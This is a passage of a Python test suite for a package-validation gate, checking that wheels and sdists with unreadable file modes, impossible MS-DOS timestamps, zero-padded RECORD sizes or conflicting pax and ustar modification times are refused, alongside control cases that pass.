    assert codes(report) == {"G319"}


# Round 18: what the gate passed of a zip member's mode and time, shown applied by the tools that read them here
# (distlib's Wheel.install, as pip vendors it, and `unzip`). Each case requires its finding to be the only one.


def distlib_installed(wheel: Path, folder: Path) -> Path:
    """The wheel installed by distlib's Wheel.install (pip's vendored copy) into ``folder``; its purelib."""
    from pip._vendor.distlib.scripts import ScriptMaker
    from pip._vendor.distlib.wheel import Wheel

    paths = {key: str(folder / key) for key in ("prefix", "purelib", "platlib", "scripts", "headers", "data")}
    for where in paths.values():
        Path(where).mkdir(parents=True, exist_ok=True)
    maker = ScriptMaker(None, paths["scripts"])
    maker.executable = sys.executable
    Wheel(str(wheel)).install(paths, maker)
    return folder / "purelib"


CLOSED_MODES = {  # attack -> (member, its mode: 0 for none, what the finding says)
    "a table with no mode": (TABLE.wheel_path, 0, "no Unix mode"),
    "the package's __init__.py with no mode": ("neurobrix/__init__.py", 0, "no Unix mode"),
    "a folder entry with no mode": ("neurobrix/", 0, "no one but root can enter"),
    "a table closed to all but its owner": (TABLE.wheel_path, 0o100600, "group or others cannot read it"),
    "a table closed to others": (TABLE.wheel_path, 0o100640, "group or others cannot read it"),
    "a table its owner alone may read": (TABLE.wheel_path, 0o100400, "group or others cannot read it"),
    "a folder closed to others": ("neurobrix/_tables/", 0o40750, "group or others cannot list or enter it"),
}


@pytest.mark.parametrize("attack", list(CLOSED_MODES))
def test_wheel_member_modes_distlib_applies_as_they_are_are_refused(built: Built, tmp_path: Path, attack: str) -> None:
    """A member with no Unix mode (external attributes 0, which the gate took for "none given") or one its group or
    others cannot read passed, with its sdist too (the rebuild compares bytes and the executable bit): pip, installer
    and uv write 644, distlib's Wheel.install applies the permission bits as they are (mode 0: a table no one but root
    can read) and `unzip` applies them (000 for no mode, to a folder too), so a package installed for every user is
    one no other user can import or load."""
    name, mode, said = CLOSED_MODES[attack]
    members = wheel_members(built.wheel)
    if name.endswith("/"):
        members.insert(0, RawMember(name.encode(), b"", zipfile.ZIP_STORED, mode=mode))
    else:
        member(members, name).mode = mode
    wheel = write_wheel(built, tmp_path / "dist", members)
    if not name.endswith("/"):  # what distlib installs: the file with the wheel's permission bits
        installed = distlib_installed(wheel, tmp_path / "distlib") / name
        assert installed.read_bytes() == read_wheel_member(built.wheel, name)
        assert stat.S_IMODE(installed.stat().st_mode) == mode & 0o777
    if UNZIP is not None:  # what `unzip` makes of it: the mode, 000 for none
        made = unzipped(wheel, tmp_path / "unzipped") / name
        assert stat.S_IMODE(made.stat().st_mode) == mode & 0o777
    report = judge(wheel, built.sdist)
    assert said in refused_with(report, "G315", name, built.wheel.name).message
    assert codes(report) == {"G315"}


def dated(data: bytes, name: str, time_field: int, date_field: int) -> bytes:
    """The zip ``data`` with ``name``'s MS-DOS time and date set in its central and local headers (they must agree)."""
    out = bytearray(data)
    at = struct.unpack_from("<L", out, len(out) - 6)[0]
    while out[at : at + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack_from("<3H", out, at + 28)
        if out[at + 46 : at + 46 + name_len] == name.encode():
            struct.pack_into("<HH", out, at + 12, time_field, date_field)
            struct.pack_into("<HH", out, struct.unpack_from("<L", out, at + 42)[0] + 10, time_field, date_field)
        at += 46 + name_len + extra_len + comment_len
    return bytes(out)


def dos_date(year: int, month: int, day: int) -> int:
    return (year - 1980) << 9 | month << 5 | day


def dos_time(hour: int, minute: int, second: int) -> int:
    return hour << 11 | minute << 5 | second // 2


DOS_MOMENTS = {  # attack -> (the time field, the date field, what the finding says)
    "month 13": (dos_time(0, 0, 0), dos_date(2026, 13, 1), "month 13"),
    "month 0": (dos_time(12, 0, 0), dos_date(2026, 0, 5), "month 0"),
    "day 0": (dos_time(12, 0, 0), dos_date(2026, 1, 0), "day 0 of month 1"),
    "the 30th of February": (dos_time(12, 0, 0), dos_date(2024, 2, 30), "day 30 of month 2"),
    "the 29th of February of a common year": (dos_time(12, 0, 0), dos_date(2025, 2, 29), "day 29 of month 2"),
    "the 31st of April": (dos_time(12, 0, 0), dos_date(2026, 4, 31), "day 31 of month 4"),
    "hour 24": (dos_time(24, 0, 0), dos_date(2026, 1, 1), "hour 24"),
    "minute 60": (dos_time(0, 60, 0), dos_date(2026, 1, 1), "minute 60"),
    "second 60": (dos_time(0, 0, 60), dos_date(2026, 1, 1), "second 60"),
    "every time field at its largest": (0xFFFF, dos_date(2026, 1, 1), "hour 31, minute 63, second 62"),
    "date and time all zeros": (0, 0, "month 0"),
}


@pytest.mark.parametrize("attack", list(DOS_MOMENTS))
def test_zip_dos_times_that_name_no_moment_are_refused(built: Built, tmp_path: Path, attack: str) -> None:
    """An MS-DOS date and time past their fields' ranges passed: zipfile (pip, installer) reports the impossible
    date_time as it is, which `datetime` refuses, `unzip` applies another moment (mktime carries the excess), the zip
    crate reads no time. Every writer writes a real moment; these are bits of both headers no tool reads alike
    (G319)."""
    time_field, date_field, said = DOS_MOMENTS[attack]
    wheel = tmp_path / "dist" / built.wheel.name
    wheel.parent.mkdir()
    wheel.write_bytes(dated(built.wheel.read_bytes(), TABLE.wheel_path, time_field, date_field))
    with zipfile.ZipFile(wheel) as z:  # what pip reads: the same table, and a date_time that is no moment
        assert z.read(TABLE.wheel_path) == read_wheel_member(built.wheel, TABLE.wheel_path)
        with pytest.raises(ValueError):
            __import__("datetime").datetime(*z.getinfo(TABLE.wheel_path).date_time)
    report = judge(wheel, built.sdist)
    assert said in refused_with(report, "G319", TABLE.wheel_path, built.wheel.name).message
    assert codes(report) == {"G319"}


def test_zip_dos_times_at_the_edges_of_their_ranges_pass(built: Built, tmp_path: Path) -> None:
    """Controls: the first and last moments an MS-DOS date and time can name, and the 29th of February of a leap
    year, are moments, written by writers and read alike."""
    data = built.wheel.read_bytes()
    for name, (time_field, date_field) in {
        TABLE.wheel_path: (dos_time(0, 0, 0), dos_date(1980, 1, 1)),
        "neurobrix/__init__.py": (dos_time(23, 59, 58), dos_date(2107, 12, 31)),
        "neurobrix/cli.py": (dos_time(12, 30, 0), dos_date(2024, 2, 29)),
    }.items():
        data = dated(data, name, time_field, date_field)
    wheel = tmp_path / "dist" / built.wheel.name
    wheel.parent.mkdir()
    wheel.write_bytes(data)
    report = judge(wheel, built.sdist)
    assert report.findings == [] and report.passed


@pytest.mark.parametrize("size", ["0{size}", "00{size}"])
def test_record_size_with_a_leading_zero_is_refused(built: Built, tmp_path: Path, size: str) -> None:
    """A RECORD size with a leading zero passed a wheel judged alone: pip, installer (its record validation too) and uv
    read '0116' as 116, distlib's Wheel.install compares the size as text with the member's and refuses the wheel. No
    writer writes one; with its sdist the rebuilt RECORD's bytes hold it already (G508)."""
    from installer.sources import WheelFile
    from pip._vendor.distlib import DistlibException

    path = f"{built.dist_info}/RECORD"
    members = wheel_members(built.wheel)
    record = member(members, path)
    record.data = re.sub(
        rb"^(neurobrix/cli\.py,sha256=[^,]+),([0-9]+)$",
        lambda m: m.group(1) + b"," + size.format(size=m.group(2).decode()).encode(),
        record.data,
        flags=re.MULTILINE,
    )
    wheel = write_wheel(built, tmp_path / "dist", members)
    with WheelFile.open(wheel) as source:  # installer's record validation reads the size as a number
        source.validate_record()
    with pytest.raises(DistlibException, match="size mismatch"):
        distlib_installed(wheel, tmp_path / "distlib")
    report = judge(wheel)
    assert "leading zero" in refused_with(report, "G206", "neurobrix/cli.py", built.wheel.name).message
    assert codes(report) == {"G206", "G202"}  # the row refused, its member is listed by no row that is read


MTIMES_TWO_WAYS = {  # attack -> (the pax mtime, the ustar header's own mtime field)
    "a header time a year before the pax time": ("1700000000.5", b"%011o\0" % (1700000000 - 365 * 86400)),
    "the field's largest time under a pax time": ("1700000000.25", b"77777777777\0"),
    "a header time one second past the pax time's": ("1700000000.25", b"%011o\0" % 1700000001),
}


@pytest.mark.parametrize("attack", list(MTIMES_TWO_WAYS))
def test_sdist_header_time_under_a_pax_time_is_refused(built: Built, tmp_path: Path, attack: str) -> None:
    """A member's modification time said twice passed: a pax `mtime`, which tarfile, GNU tar and bsdtar apply, over a
    ustar header whose own time field says another moment, which an unpacker that reads no pax time applies (BusyBox tar
    reads a pax header's path and link only). Writers put the pax time's whole seconds there (tarfile 0 past the field);
    anything else was 33 bits a member carried unjudged, as the ustar owner under a pax owner was (G316)."""
    pax_time, field = MTIMES_TWO_WAYS[attack]
    name = f"{built.root}/pyproject.toml"
    members = [
        RawTarMember(m.name, m.data, m.type, mode=m.mode, pax={"mtime": pax_time}, header={136: field})
        if m.name == name
        else m
        for m in sdist_members(built.sdist)
    ]
    sdist = write_sdist(tmp_path / built.sdist.name, raw_tar(members))
    unpacked = root_unpacked(sdist, tmp_path / "tarfile") / name  # tarfile applies the pax time
    assert unpacked.stat().st_mtime == float(pax_time)
    with tarfile.open(sdist) as tar:
        assert tar.getmember(name).mtime == float(pax_time)
    report = judge(sdist)
    assert "modification time" in refused_with(report, "G312", name, built.sdist.name).message
    assert codes(report) == {"G312"}


@pytest.mark.parametrize(("pax_time", "field"), [("1700000000.5", 1700000000), ("1700000000.75", 1700000001)])
def test_sdist_header_time_as_writers_write_it_under_a_pax_time_passes(
    built: Built, tmp_path: Path, pax_time: str, field: int
) -> None:
    """Controls: the pax time's whole seconds, truncated (GNU tar) or rounded (tarfile), in the header's own field."""
    name = f"{built.root}/pyproject.toml"
    members = [
        RawTarMember(m.name, m.data, m.type, mode=m.mode, pax={"mtime": pax_time}, header={136: b"%011o\0" % field})
        if m.name == name
        else m
        for m in sdist_members(built.sdist)
    ]
    report = judge(write_sdist(tmp_path / built.sdist.name, raw_tar(members)))
    assert report.findings == [] and report.passed
